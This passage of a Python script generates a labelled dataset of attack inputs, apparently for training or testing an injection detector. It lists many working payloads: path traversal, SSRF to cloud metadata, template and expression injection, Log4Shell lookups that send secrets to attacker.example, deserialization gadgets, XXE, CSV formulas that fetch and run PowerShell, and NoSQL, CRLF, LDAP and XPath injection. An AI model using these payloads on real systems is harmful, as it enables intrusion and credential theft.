    ("plain-dotdot-hosts", "../../../../../../etc/hosts"),
]

TR_PREFIXES = [("avatar", "avatars/"), ("sticker", "stickers/hearts/"), ("theme", "themes/dark/"),
               ("locale", "i18n/pt-BR/"), ("attachment", "attachments/9921/")]
TR_TARGETS = ["etc/passwd", "etc/hosts", "proc/self/environ", "root/.ssh/id_rsa",
              "app/.env", "etc/nginx/nginx.conf"]
TR_STEPS = [("dotdot", "../"), ("dotdot+url", "..%2f"), ("dotdot-backslash", "..\\"),
            ("strip-bypass", "....//")]


def traversal_template(rng):
    ctx, pre = rng.choice(TR_PREFIXES)
    tech, step = rng.choice(TR_STEPS)
    return f"{ctx}-{tech}", pre + step * rng.randint(4, 8) + rng.choice(TR_TARGETS)


# --------------------------------------------------------------------------
# SSRF
# --------------------------------------------------------------------------
SSRF = [
    ("link-preview-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("avatar-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("avatar-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("link-preview-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("link-preview-aws-metadata-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("avatar-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("avatar-url-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("avatar-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-metadata+mixed-ip", "http://169.254.43518/latest/user-data"),
    ("webhook-gopher-redis", "gopher://127.0.0.1:6379/_SET%20pwned%201%0D%0AQUIT%0D%0A"),
    ("webhook-docker-api", "http://localhost:2375/containers/json"),
    ("link-preview-short-loopback", "http://127.1/admin"),
    ("link-preview-zero-host", "http://0/server-status"),
    ("avatar-url-ipv6-loopback", "http://[::1]:8080/internal/users"),
    ("avatar-url-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/admin"),
    ("link-preview-dns-rebinding", "http://loopback.attacker.example:8080/internal/users"),
    ("link-preview-open-redirect-chain", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-userinfo-confusion", "http://attacker.example@127.0.0.1:8500/v1/agent/self"),
    ("link-preview-fragment-confusion", "http://127.0.0.1:8000#@attacker.example/"),
    ("link-preview-backslash-confusion", "http://127.0.0.1:9200\\@attacker.example/_search"),
    ("avatar-url-file-scheme", "file:///etc/passwd"),
    ("avatar-url-file-proc-environ", "file:///proc/self/environ"),
    ("webhook-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("webhook-ldap-scheme", "ldap://127.0.0.1:389/dc=social,dc=example??sub?(objectClass=*)"),
    ("rss-import-internal-elasticsearch", "http://10.0.0.5:9200/_cat/indices?v"),
    ("link-preview-router-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook-kubelet", "https://172.17.0.1:10250/pods"),
    ("avatar-url-k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-envoy-admin", "http://127.0.0.1:15000/config_dump"),
    ("link-preview-spring-actuator", "http://127.0.0.1:8080/actuator/env"),
    ("import-jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("import-netdoc-scheme", "netdoc:///etc/passwd"),
    ("link-preview-loopback+enclosed-digits", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("link-preview-loopback+dotted-hex", "http://0x7f.0x0.0x0.0x1:8000/debug"),
    ("avatar-url-loopback+octal", "http://017700000001/admin"),
    ("avatar-url-loopback+decimal", "http://2130706433:3000/admin"),
    ("calendar-import-couchdb", "webcal://127.0.0.1:5984/_all_dbs"),
    ("rss-import-cluster-service", "http://internal-api.svc.cluster.local/v1/users?limit=1000"),
    ("webhook-minio-admin", "http://127.0.0.1:9000/minio/admin/v3/info"),
    ("status-link-preview-metadata", "omg look 😂 http://169.254.169.254/latest/user-data"),
    ("oembed-nested-url", "https://social.example/oembed?url=http://127.0.0.1:8001/api/v1/namespaces"),
    ("avatar-url-metadata-ipv4-mapped-ipv6", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-metadata-dns-rebinding", "http://meta.rebind.attacker.example/latest/meta-data/"),
    ("link-preview-loopback+url", "http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
    ("webhook-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.org%3E%0D%0ADATA%0D%0ASubject%3A%20hi%0D%0A%0D%0Aspam%0D%0A.%0D%0A"),
    ("link-preview-unspecified-solr", "http://0.0.0.0:8983/solr/admin/cores?action=STATUS"),
    ("webhook-trailing-dot-localhost", "http://localhost./admin"),
    ("avatar-url-unc-path", "\\\\198.51.100.12\\share\\avatar.png"),
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost-admin", "http://localhost/admin"),
    ("plain-file-scheme", "file:///etc/hosts"),
    ("plain-loopback-port", "http://127.0.0.1:22/"),
    ("plain-metadata+decimal-ip", "http://2852039166/latest/user-data"),
]

SSRF_HOSTS = [("loopback", "127.0.0.1"), ("loopback+decimal", "2130706433"), ("private-10", "10.0.0.12"),
              ("private-192", "192.168.0.10"), ("metadata", "169.254.169.254"), ("loopback+ipv6", "[::1]")]
SSRF_PORTS = ["", ":8080", ":6379", ":9200", ":2375", ":5000"]
SSRF_PATHS = ["/admin", "/internal/users", "/latest/meta-data/", "/debug/vars", "/api/v1/secrets"]
SSRF_CTX = ["webhook", "avatar-url", "link-preview", "rss-import"]


def ssrf_template(rng):
    tech, host = rng.choice(SSRF_HOSTS)
    return (f"{rng.choice(SSRF_CTX)}-{tech}",
            f"http://{host}{rng.choice(SSRF_PORTS)}{rng.choice(SSRF_PATHS)}")


# --------------------------------------------------------------------------
# Code injection: SSTI, EL, deserialization, XXE, Log4Shell, prototype
# pollution, CSV formulas, eval
# --------------------------------------------------------------------------
CODE = [
    ("bio-ssti-jinja2", "✨ {{ cycler.__init__.__globals__.os.popen('id').read() }} ✨"),
    ("status-ssti-jinja2-lipsum", "Good morning ☀️ {{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("displayname-ssti-jinja2-config", "Mira {{ config.items() }}"),
    ("comment-ssti-jinja2-request", "lol {{ request.application.__globals__.__builtins__.__import__('os').popen('uname -a').read() }}"),
    ("group-ssti-jinja2-subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if 'Popen' in c.__name__ %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("bio-ssti-jinja2-attr+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("event-ssti-twig-filter", "Trivia night 🧠 {{ ['id']|filter('system') }}"),
    ("event-ssti-twig-undefined-filter", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('cat /etc/passwd') }}"),
    ("prompt-ssti-freemarker", "My simple pleasures: <#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("bio-ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('touch /tmp/v'))"),
    ("locale-ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}__::.x"),
    ("status-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("search-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("bio-ssti-erb-backtick", "dog dad 🐕 <%= `id` %>"),
    ("comment-ssti-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("bio-ssti-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("event-ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("comment-ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("group-ssti-smarty-function", "Cats in boxes 📦 {system('id')}"),
    ("group-ssti-smarty-php-tag", "{php}echo shell_exec('id');{/php}"),
    ("bio-ssti-mako", "<% import os %>${os.popen('id').read()}"),
    ("status-ssti-tornado", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("displayname-ssti-django-settings", "Jules {{ settings.SECRET_KEY }}"),
    ("event-ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")"),
    ("bio-ssti-jinja2-attr+unicode-escape", "{{ request|attr('application')|attr('\\u005f\\u005fglobals\\u005f\\u005f') }}"),
    ("search-spel-getenv", "${T(java.lang.System).getenv()}"),
    ("displayname-el-application-scope", "${applicationScope}"),
    ("username-log4shell-jndi", "${jndi:ldap://log.attacker.example:1389/a}"),
    ("displayname-log4shell+lookup-nesting", "${${lower:j}ndi:${lower:l}dap://198.51.100.8/x}"),
    ("status-log4shell+default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}"),
    ("bio-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("comment-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.v.attacker.example/}"),
    ("status-log4shell-ldaps", "good vibes only ✨ ${jndi:ldaps://attacker.example/gv}"),
    ("search-log4shell+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("draft-restore-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("session-php-object-injection", "O:11:\"UserSession\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}"),
    ("profile-import-yaml-python-object", "bio: hello 👋\nextra: !!python/object/apply:os.system ['id']"),
    ("profile-import-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("settings-json-net-type", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("settings-jackson-polymorphic", "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://attacker.example:1389/j\"}]"),
    ("settings-node-serialize", "{\"theme\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("settings-jsonpickle-reduce", "{\"py/reduce\": [{\"py/type\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
    ("import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><post><text>&x;</text></post>"),
    ("import-xxe-parameter-entity-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><r/>"),
    ("avatar-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("import-xinclude", "<post xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></post>"),
    ("import-xml-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">]><l>&e;</l>"),
    ("rss-import-xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><rss><channel><title>&e;</title></channel></rss>"),
    ("settings-prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("settings-constructor-prototype", "{\"constructor\":{\"prototype\":{\"verified\":true}}}"),
    ("query-prototype-pollution", "__proto__[role]=admin"),
    ("query-prototype-pollution-ejs-gadget", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("settings-prototype-pollution-node-options", "{\"profile\":{\"__proto__\":{\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}}"),
    ("displayname-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"see my pics 📸\")"),
    ("displayname-csv-dde", "=cmd|' /C calc'!A0"),
    ("bio-csv-dde-powershell", "+SUM(1+1)*cmd|' /C powershell -nop -w hidden -c iwr attacker.example/p|iex'!A1"),
    ("username-csv-dde-at", "@SUM(1+1)*cmd|' /C notepad'!A0"),
    ("event-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C40),\"//a\")"),
    ("rsvp-csv-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&A1&B1)"),
    ("comment-csv-image-beacon", "=IMAGE(\"https://attacker.example/track.png?u=\"&B1)"),
    ("greeting-python-format-string", "Hi {user.__class__.__init__.__globals__[SECRET_KEY]} 👋"),
    ("greeting-python-format-string-globals", "{0.__init__.__globals__[app].config}"),
    ("bio-ruby-interpolation", "#{`id`}"),
    ("filter-node-eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("filter-python-eval", "__import__('os').system('id')"),
    ("sort-spel-expression", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("hashtag-log4shell", "#${jndi:ldap://tag.attacker.example/h}"),
    ("mention-ssti-jinja2-subclasses", "@{{ ''.__class__.__base__.__subclasses__() }}"),
    ("bio-ssti-groovy-gstring", "${\"id\".execute().text}"),
    ("bio-ssti-jinja2-multiline", "☕ | 📚 | 🐕\n{% set x = lipsum.__globals__.os.popen('id') %}{{ x.read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-ssti-jinja2-config", "{{config}}"),
    ("plain-ssti-erb", "<%= system('id') %>"),
    ("plain-csv-dde", "=1+cmd|' /C calc'!A1"),
    ("plain-prototype-pollution", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-ssti-jinja2-globals", "{{ self.__init__.__globals__.__builtins__ }}"),
    ("plain-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
]

CODE_PREFIXES = [("bio", "she/her 🌸 "), ("status", "Friday!!! 🎉 "), ("comment", "lmao "),
                 ("event", "Potluck 🍲 "), ("displayname", "Kat M ")]
CODE_ENGINES = [
    ("ssti-jinja2", "{{{{ cycler.__init__.__globals__.os.popen('{cmd}').read() }}}}"),
    ("ssti-mako", "${{__import__('os').popen('{cmd}').read()}}"),
    ("ssti-freemarker", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${{x(\"{cmd}\")}}"),
    ("ssti-erb", "<%= `{cmd}` %>"),
    ("spel", "#{{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}"),
]
CODE_CMDS = ["id", "whoami", "uname -a", "cat /etc/hostname", "ls /home", "env"]


def code_template(rng):
    ctx, pre = rng.choice(CODE_PREFIXES)
    tech, eng = rng.choice(CODE_ENGINES)
    return f"{ctx}-{tech}", pre + eng.format(cmd=rng.choice(CODE_CMDS))


# --------------------------------------------------------------------------
# NoSQL injection
# --------------------------------------------------------------------------
NOSQLI = [
    ("username-operator-ne", "{\"$ne\": null}"),
    ("password-operator-gt", "{\"$gt\": \"\"}"),
    ("username-js-object-breakout", "admin', $or: [ {}, { 'a':'a"),
    ("search-where-js-tautology", "tacos' || '1'=='1"),
    ("search-where-return-true", "vegan'; return true; var x='"),
    ("search-where-sleep", "1; sleep(5000)"),
    ("search-where-busy-loop", "'; var d=new Date(); do{}while(new Date()-d<6000); '"),
    ("username-operator-regex", "{\"$regex\": \"^adm\"}"),
    ("query-bracket-operator-regex", "password[$regex]=^a.*"),
    ("filter-where-length-sleep", "{\"$where\": \"this.password.length > 8 && sleep(3000)\"}"),
    ("filter-expr-tautology", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("feed-pipeline-lookup", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"author\",\"foreignField\":\"_id\",\"as\":\"leak\"}}]"),
    ("filter-role-in", "{\"bio\": {\"$exists\": true}, \"role\": {\"$in\": [\"admin\", \"moderator\"]}}"),
    ("mention-where-breakout", "kat_m\"}, \"$where\": \"sleep(4000) || true"),
    ("search-mango-selector", "{\"selector\":{\"_id\":{\"$gt\":null}}}"),
    ("filter-function-operator", "{\"$function\": {\"body\": \"function(){ sleep(3000); return true }\", \"args\": [], \"lang\": \"js\"}}"),
    ("search-es-query-string", "vegan OR _exists_:password_hash"),
    ("query-bracket-operator+url", "username%5B%24ne%5D=nobody"),
    ("password-operator+unicode-escape", "{\"\\u0024ne\": \"x\"}"),
    ("feed-filter-or-bypass", "{\"$or\":[{\"visibility\":\"private\"},{\"visibility\":{\"$ne\":\"private\"}}]}"),
    ("username-where-is-admin", "x'||this.is_admin==true||'"),
    ("filter-js-object-where", "25, $where: '1 == 1'"),
    ("search-where-regex-exfil", "{\"$where\": \"this.reset_token && this.reset_token.match(/^7f/)\"}"),
    ("plain-operator-ne", "{\"$ne\": \"\"}"),
    ("plain-where-tautology", "' || 1==1//"),
    ("plain-operator-nin", "{\"$nin\": []}"),
]

# --------------------------------------------------------------------------
# CRLF / header / log / mail injection
# --------------------------------------------------------------------------
CRLF = [
    ("displayname-mail-header-bcc", "Mira 🎨\r\nBcc: everyone@attacker.example"),
    ("redirect-header-set-cookie", "/feed\r\nSet-Cookie: session=attacker-fixed-session; Path=/"),
    ("redirect-set-cookie+url", "/profile%0d%0aSet-Cookie:%20sid=fixation123"),
    ("redirect-location+double-url", "/groups%250d%250aLocation:%20https://attacker.example"),
    ("redirect-response-splitting-body", "/home\r\n\r\n<html><script>alert(document.domain)</script>"),
    ("comment-log-forging", "nice post 👍\n2025-03-02T14:11:09Z INFO user=admin action=password_reset status=success ip=10.0.0.1"),
    ("username-log-forging-mod-action", "bob\n[ALERT] moderator @lena_k approved ban of user 4412"),
    ("invite-subject-mail-body-injection", "Join my book club 📚\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Verify your account</a>"),
    ("invite-email-cc", "friend@example.org\r\nCc: list1@attacker.example,list2@attacker.example"),
    ("redirect-set-cookie+unicode-crlf", "/feed%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("redirect-location+raw-unicode-crlf", "/home嘊嘍Location: https://attacker.example/"),
    ("invite-smtp-command-injection", "see you there!\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\n"),
    ("lang-header-injection", "en-US\r\nX-Forwarded-For: 127.0.0.1"),
    ("status-log-ansi-escape", "gm ☀️\u001b[2J\u001b[1;31mSYSTEM COMPROMISED\u001b[0m"),
    ("username-log-carriage-return-overwrite", "alice\rADMIN LOGIN OK from 127.0.0.1"),
    ("comment-log-json-field-injection", "great\",\"level\":\"error\",\"user\":\"admin\",\"msg\":\"login ok"),
    ("download-filename-header-injection", "photo.jpg\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-response-splitting+url", "/feed%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("invite-from-name-reply-to", "Support Team\nReply-To: help@attacker.example"),
    ("report-syslog-forging", "spam\n<13>Mar  2 14:11:09 web01 sshd[811]: Accepted password for root from 203.0.113.66 port 50122 ssh2"),
    ("redirect-header+url-lf", "/me%0aX-Injected:%20true"),
    ("invite-header-bcc+url-folding", "hi%0d%0a%09Bcc:%20x@attacker.example"),
    ("redirect-link-header", "/\r\nLink: <https://attacker.example/evil.css>; rel=stylesheet"),
    ("displayname-log+unicode-line-separator", "Mira\u2028INFO 2025-03-02 admin logged in from 10.0.0.2"),
    ("event-ics-field-injection", "Book club 📚\r\nATTENDEE;CN=All:mailto:everyone@attacker.example\r\nURL:https://attacker.example/rsvp"),
    ("event-ics-description-injection", "Maya's 30th 🎂\nDESCRIPTION:Confirm your seat at https://attacker.example/pay"),
    ("contact-vcard-injection", "Jess\nTEL;TYPE=cell:+1-555-0100\nURL:https://attacker.example"),
    ("plain-set-cookie", "\r\nSet-Cookie: admin=true"),
    ("plain-location+url", "%0d%0aLocation: https://attacker.example"),
    ("plain-log-forging", "x\nERROR auth: password changed for user admin"),
    ("plain-header-injection+url", "%0d%0aX-Forwarded-Host: attacker.example"),
]

# --------------------------------------------------------------------------
# LDAP / XPath injection
# --------------------------------------------------------------------------
LDAP_XPATH = [
    ("username-ldap-filter-breakout", "*)(uid=*))(|(uid=*"),
    ("username-ldap-and-true", "admin)(&)"),
    ("search-ldap-objectclass-wildcard", "*)(objectClass=*"),
    ("username-ldap-blind-password", "x*)(|(userPassword=a*)"),
    ("group-ldap-memberof", "lena*)(memberOf=cn=moderators,ou=groups,dc=social,dc=example"),
    ("search-ldap-mail-wildcard", "*)(mail=*@attacker.example"),
    ("search-ldap-breakout+url", "%2A%29%28uid%3D%2A"),
    ("directory-ldap-or-phone", "jane)(|(telephoneNumber=*)"),
    ("username-ldap-null-byte", "admin)%00"),
    ("roster-xpath-tautology", "kat_m' or '1'='1"),
    ("badge-xpath-name-probe", "x' or name()='username' or 'x'='y"),
    ("roster-xpath-union", "']|//user/password|//x['"),
    ("roster-xpath-blind-substring", "' and substring(//user[1]/password,1,1)='a"),
    ("roster-xpath-blind-length", "' or string-length(name(/*[1]))=5 or '"),
    ("roster-xpath-doc-exfil", "' and doc(concat('http://attacker.example/',//user[1]/password)) or '"),
    ("badge-xpath-numeric", "0 or 1=1"),
    ("roster-xpath-paren-breakout", "') or ('1'='1"),
    ("roster-xpath-double-quote", "lena\" or \"\"=\""),
    ("roster-xpath-dump-all", "'] | //* | //*['"),
    ("roster-xpath-tautology+url", "%27%20or%20%271%27%3D%271"),
    ("plain-ldap-wildcard-breakout", "*)(|(cn=*"),
    ("plain-xpath-tautology", "' or 1=1 or ''='"),
    ("plain-ldap-and-wildcard", "*)(&(objectClass=*)"),
]


# --------------------------------------------------------------------------
TEMPLATED = {"sqli": (sqli_template, 4), "xss": (xss_template, 5), "cmdi": (cmdi_template, 6),
             "traversal": (traversal_template, 2), "ssrf": (ssrf_template, 2), "code": (code_template, 3)}

CATEGORIES = [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL),
              ("ssrf", SSRF), ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF),
              ("ldap-xpath", LDAP_XPATH)]


def build():
    rng = random.Random(SEED)
    rows, seen, stats = [], set(), []
    for cat, literals in CATEGORIES:
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        if cat in TEMPLATED:
            fn, want = TEMPLATED[cat]
            got, tries = 0, 0
            while got < want:
                tries += 1
                if tries > 10000:
                    raise SystemExit(f"{cat}: template space exhausted")
                cls, v = fn(rng)
                if v in seen:
                    continue
                seen.add(v)
                items.append((cls, v))
                got += 1
        stats.append((cat, len(items), n_lit))
        for cls, v in items:
            rows.append({"category": cat, "class": cls, "value": v})
    return rows, stats


def main():
    rows, stats = build()
    here = Path(__file__)
    benign = here.with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            bvals = {json.loads(line)["value"] for line in fh if line.strip()}
        clash = [r["value"] for r in rows if r["value"] in bvals]
        if clash:
            raise SystemExit(f"values in both files: {clash[:3]!r}")
    out = here.with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, r in enumerate(rows, 1):
            v = r["value"]
            assert isinstance(v, str) and v and len(v) <= 1800, v
            obj = {"id": f"{PREFIX}-{i:05d}", "category": r["category"], "class": r["class"],
                   "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print(f"{cat:11s} {n:4d}  literals {lit}")
    n_plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r["class"])
    print(f"{'total':11s} {len(rows):4d}  literals {total_lit} ({100 * total_lit / len(rows):.1f}%)"
          f"  plain {n_plain}  encoded {n_enc}")


if __name__ == "__main__":
    main()
